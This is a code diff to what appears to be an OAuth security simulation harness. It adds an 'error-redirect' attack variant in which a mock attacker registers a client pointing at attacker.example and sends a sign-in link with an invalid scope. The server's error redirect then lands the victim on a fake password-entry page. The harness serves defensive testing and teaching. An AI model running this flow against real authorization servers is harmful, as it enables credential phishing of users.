@@ -10,6 +10,7 @@ import { ranAsVictim, short } from './evidence';
 import type { AttackDef } from './types';
 
 const LOOKALIKE = 'https://app.example.com.attacker.example/cb';
+const PHISH = 'https://attacker.example/welcome';
 const received = new WeakMap<object, URL>();
 
 export const openRedirect: AttackDef = {
@@ -33,6 +34,83 @@ export const openRedirect: AttackDef = {
       world.network.annotate({ mark: 'stolen' });
       return htmlPage('Loading…', '<p>Loading…</p>');
     }),
+  ],
+  variants: [
+    { id: 'prefix-match', label: 'redirect_uri matched by prefix' },
+    {
+      // Spec §5.3 (b): no code this time; the server's own link becomes the phishing link.
+      id: 'error-redirect',
+      label: 'Errors redirected to a URI nobody reviewed',
+      summary:
+        "The attacker registers her own client with redirect_uris [https://attacker.example/welcome] and mails a sign-in link with a scope that does not exist, so the server's error sends the victim to her.",
+      rules: ['A-13', 'A-11'],
+      defence: {
+        label: 'The authorization server redirects errors only to redirect URIs it trusts (A-13)',
+        vulnerabilities: ['as-redirect-errors-untrusted'],
+      },
+      hosts: (world) => [
+        http.get(PHISH, ({ request }) => {
+          received.set(world, new URL(request.url));
+          world.network.annotate({ mark: 'stolen' });
+          return htmlPage(
+            'Sign in again',
+            '<h1>Your session expired</h1><form><input name="password"></form>',
+          );
+        }),
+      ],
+      explain: {
+        vulnerable:
+          "The link pointed at the real authorization server, and the server sent the victim's browser straight on to the attacker's page, before anyone had signed in. To the victim, the sign-in page that followed came from a link she could trust.",
+        defended:
+          'A-13 (OAuth 2.1 §7.12.2): the client registered itself and nobody reviewed its redirect URI, so the server showed the error on its own page instead of redirecting to it.',
+      },
+      async act({ world, attacker, browser }) {
+        const registered = await attacker.fetch(endpoints(world.urls.issuer).registration_endpoint, {
+          method: 'POST',
+          step: 'attacker-request',
+          mark: 'attacker',
+          headers: { 'Content-Type': 'application/json' },
+          body: JSON.stringify({
+            client_name: 'Files Helper',
+            redirect_uris: [PHISH],
+            application_type: 'web',
+            token_endpoint_auth_method: 'none',
+            grant_types: ['authorization_code'],
+            response_types: ['code'],
+          }),
+        });
+        const body: unknown = await registered.json().catch(() => null);
+        const clientId =
+          typeof body === 'object' && body !== null && 'client_id' in body ? String(body.client_id) : null;
+        if (!clientId) return { attackerWon: false, evidence: `Registration failed (${registered.status}).` };
+        const link = new URL(endpoints(world.urls.issuer).authorization_endpoint);
+        const rng = world.rng('attacker');
+        const params = {
+          response_type: 'code',
+          client_id: clientId,
+          redirect_uri: PHISH,
+          state: rng.token(8),
+          code_challenge: await challengeS256(createVerifier(rng)),
+          code_challenge_method: 'S256',
+          scope: 'files:everything',
+          resource: world.urls.mcp,
+        };
+        for (const [k, v] of Object.entries(params)) link.searchParams.set(k, v);
+        await attacker.note(
+          'Sends the victim a sign-in link',
+          'The link is on auth.example.com, the server the victim trusts; its scope does not exist, so the request can only fail.',
+          { values: { client_id: clientId, scope: params.scope } },
+        );
+        await browser.navigate(link.href, { mark: 'attacker' });
+        const landed = received.get(world);
+        return landed
+          ? {
+              attackerWon: true,
+              evidence: `The victim's browser followed the authorization server's redirect to ${landed.origin}${landed.pathname} (error=${landed.searchParams.get('error') ?? ''}).`,
+            }
+          : { attackerWon: false, evidence: "The victim's browser never reached the attacker's page." };
+      },
+    },
   ],
   explain: {
     vulnerable:
